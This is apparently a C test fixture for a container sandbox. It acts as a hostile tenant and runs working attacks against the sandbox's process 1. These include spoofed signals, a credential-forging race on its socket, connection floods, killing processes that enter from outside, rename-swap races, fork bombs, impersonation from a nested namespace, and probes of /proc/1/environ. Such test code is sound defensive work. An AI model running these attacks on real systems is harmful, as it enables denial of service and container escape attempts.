/* What a hostile tenant would run: attacks on its container's process 1 and on whoever enters the
 * container from outside.  hostile.test.mjs builds it and takes it in. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { QUEUED_PID = 4 /* si_pid, counted in ints */, EXCHANGE = 2 };

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void pause_us(long us)
{
	nanosleep(&(struct timespec){ .tv_nsec = us * 1000 }, NULL);
}

/* --- signals that lie about who sent them ---------------------------------------------------- */

static void queue_to_init(int number)
{
	siginfo_t info;

	memset(&info, 0, sizeof(info));
	info.si_signo = number;
	info.si_code = SI_QUEUE;
	((int *)&info)[QUEUED_PID] = 0;
	printf("queued %ld\n", syscall(SYS_rt_sigqueueinfo, 1, number, &info));
}

static void sigio_to_init(int number)
{
	int ends[2];

	if (pipe(ends) < 0)
		exit(1);
	fcntl(ends[0], F_SETSIG, number);
	printf("owned %d\n", fcntl(ends[0], F_SETOWN, 1));
	fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
	(void)!write(ends[1], "x", 1);
}

/* --- the door of process 1 ------------------------------------------------------------------- */

static socklen_t door(struct sockaddr_un *address)
{
	memset(address, 0, sizeof(*address));
	address->sun_family = AF_UNIX;
	memcpy(address->sun_path + 1, "sandpod", 7);
	return offsetof(struct sockaddr_un, sun_path) + 8;
}

static int taken_in(int fd)
{
	int fds[2] = { 0, 1 };
	union {
		struct cmsghdr header;
		char room[CMSG_SPACE(sizeof(fds))];
	} control = { .header = { CMSG_LEN(sizeof(fds)), 0, SOL_SOCKET, SCM_RIGHTS } };
	char byte = 'l';
	struct iovec piece = { &byte, 1 };
	struct msghdr message = { .msg_iov = &piece,
				  .msg_iovlen = 1,
				  .msg_control = &control,
				  .msg_controllen = sizeof(control) };
	struct pollfd answer = { .fd = fd, .events = POLLIN };

	memcpy(CMSG_DATA(&control.header), fds, sizeof(fds));
	if (sendmsg(fd, &message, MSG_NOSIGNAL) != 1 || poll(&answer, 1, 300) <= 0)
		return 0;
	return recv(fd, &byte, 1, 0) == 1 && byte == 'y';
}

/* A child connects and is reaped while process 1 looks at it; its parent keeps the socket. */
static void forge(double seconds)
{
	double end = now() + seconds;
	struct sockaddr_un address;
	socklen_t len = door(&address);
	long tries = 0, wins = 0;

	signal(SIGCHLD, SIG_IGN);
	for (; now() < end; tries++) {
		int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
		struct pollfd refused = { .fd = fd, .events = POLLIN };

		if (vfork() == 0) {
			syscall(SYS_connect, fd, &address, len);
			for (volatile long i = 0; i < tries % 400 * 5; i++)
				;
			_exit(0);
		}
		pause_us(200);
		if (poll(&refused, 1, 1) == 0)
			wins += taken_in(fd);
		close(fd);
	}
	printf("tries %d wins %ld\n", tries > 100, wins);
}

static void flood(double seconds, int count)
{
	double end = now() + seconds;

	for (int i = 0; i < count; i++) {
		struct sockaddr_un address;
		socklen_t len = door(&address);

		if (fork() != 0)
			continue;
		while (now() < end) {
			int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);

			(void)!connect(fd, (struct sockaddr *)&address, len);
			close(fd);
		}
		_exit(0);
	}
	while (wait(NULL) > 0)
		;
}

/* --- who comes in from outside has parent 0 and our user id ----------------------------------- */

static int parent_of(int pid)
{
	char path[40], text[512];
	int parent = -1;
	const char *at;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	file = fopen(path, "r");
	if (!file)
		return -1;
	if (fgets(text, sizeof(text), file) && (at = strrchr(text, ')')))
		sscanf(at + 2, "%*c %d", &parent);
	fclose(file);
	return parent;
}

static long signal_strangers(int number)
{
	DIR *dir = opendir("/proc");
	long count = 0;

	for (const struct dirent *entry; (entry = readdir(dir));) {
		int pid = (int)strtol(entry->d_name, NULL, 10);

		if (pid > 1 && parent_of(pid) == 0)
			count += kill(pid, number) == 0;
	}
	closedir(dir);
	return count;
}

static void hunt(double seconds, int number)
{
	for (double end = now() + seconds; now() < end;) {
		signal_strangers(number);
		pause_us(300);
	}
}

/* --------------------------------------------------------------------------------------------- */

static void swap(const char *one, const char *other, double seconds)
{
	for (double end = now() + seconds; now() < end;)
		syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
}

static void bomb(void)
{
	for (;;)
		fork();
}

/* Takes every process that there is, and each that comes free: all of them go on forking, so that
 * it does not matter who of them has the processor. */
static void fill(void)
{
	int first = getpid();

	for (int told = 0;; pause_us(2000)) {
		if (fork() >= 0 || told || getpid() != first)
			continue;
		told = 1;
		(void)!write(1, "full\n", 5);
	}
}

/* --- doors to the kernel of older programs --------------------------------------------------- */

static void getpid_as_i386(void)
{
#ifdef __x86_64__
	long number = 20;

	__asm__ volatile("int $0x80" : "+a"(number) : : "memory");
#else
	raise(SIGSYS);
#endif
}

static void getpid_as_x32(void)
{
#ifdef __x86_64__
	syscall(0x40000000 | SYS_getpid);
#else
	raise(SIGSYS);
#endif
}

/* The signal that ends a process that does this; 0: none. */
static int end_of(void (*call)(void))
{
	int status = 0;
	pid_t pid = fork();

	if (pid == 0) {
		call();
		_exit(0);
	}
	waitpid(pid, &status, 0);
	return WIFSIGNALED(status) ? WTERMSIG(status) : 0;
}

/* --- where process 1 meets the server -------------------------------------------------------- */

/* What became of it: 0 nobody listened, 1 sent away, 2 taken in. */
static int pose_once(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	struct pollfd answer = { .fd = fd, .events = POLLIN };
	int taken = 0;
	char byte;

	snprintf(address.sun_path, sizeof(address.sun_path), "/.sandpod/link/%s", name);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0) {
		(void)!send(fd, "hello", 5, MSG_NOSIGNAL);
		poll(&answer, 1, 2000);
		taken = recv(fd, &byte, 1, MSG_DONTWAIT) <= 0 && answer.revents ? 1 : 2;
	}
	close(fd);
	return taken;
}

static void pose(const char *name, double seconds)
{
	double end = now() + seconds;
	long times[3] = { 0 };

	while (now() < end && !times[1]) {
		times[pose_once(name)]++;
		pause_us(500);
	}
	printf("sent away %d, taken in %ld\n", times[1] > 0, times[2]);
	fflush(stdout);
}

/* The same as the first process of a namespace of its own. */
static void nest(const char *name, double seconds)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0) {
		puts("no namespace");
		return;
	}
	if (fork() == 0) {
		printf("as %d: ", (int)getpid());
		pose(name, seconds);
		_exit(0);
	}
	wait(NULL);
}

static void storm(const char *name, double seconds, int count)
{
	double end = now() + seconds;

	for (int i = 0; i < count; i++) {
		if (fork() != 0)
			continue;
		while (now() < end)
			pose_once(name);
		_exit(0);
	}
	while (wait(NULL) > 0)
		;
}

static void spy(void)
{
	int fd = inotify_init1(0);

	errno = 0;
	inotify_add_watch(fd, "/.sandpod/link", IN_ALL_EVENTS);
	printf("watch %s, ", strerror(errno));
	errno = 0;
	opendir("/.sandpod/link");
	printf("list %s, ", strerror(errno));
	errno = 0;
	open("/.sandpod/link/bell", O_WRONLY | O_NONBLOCK);
	printf("bell %s, ", strerror(errno));
	errno = 0;
	open("/proc/1/environ", O_RDONLY);
	printf("environment %s\n", strerror(errno));
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	const char *first = argc > 2 ? argv[2] : "0";
	const char *second = argc > 3 ? argv[3] : "0";

	if (!strcmp(what, "queue"))
		queue_to_init((int)strtol(first, NULL, 10));
	else if (!strcmp(what, "sigio"))
		sigio_to_init((int)strtol(first, NULL, 10));
	else if (!strcmp(what, "forge"))
		forge(atof(first));
	else if (!strcmp(what, "flood"))
		flood(atof(first), (int)strtol(second, NULL, 10));
	else if (!strcmp(what, "strangers"))
		printf("signalled %ld\n", signal_strangers((int)strtol(first, NULL, 10)));
	else if (!strcmp(what, "hunt"))
		hunt(atof(first), (int)strtol(second, NULL, 10));
	else if (!strcmp(what, "swap"))
		swap(first, second, argc > 4 ? atof(argv[4]) : 1);
	else if (!strcmp(what, "older"))
		printf("i386 %d x32 %d\n", end_of(getpid_as_i386), end_of(getpid_as_x32));
	else if (!strcmp(what, "bomb"))
		bomb();
	else if (!strcmp(what, "pose"))
		pose(first, atof(second));
	else if (!strcmp(what, "nest"))
		nest(first, atof(second));
	else if (!strcmp(what, "storm"))
		storm(first, atof(second), argc > 4 ? (int)strtol(argv[4], NULL, 10) : 1);
	else if (!strcmp(what, "spy"))
		spy();
	else if (!strcmp(what, "fill"))
		fill();
	return 0;
}
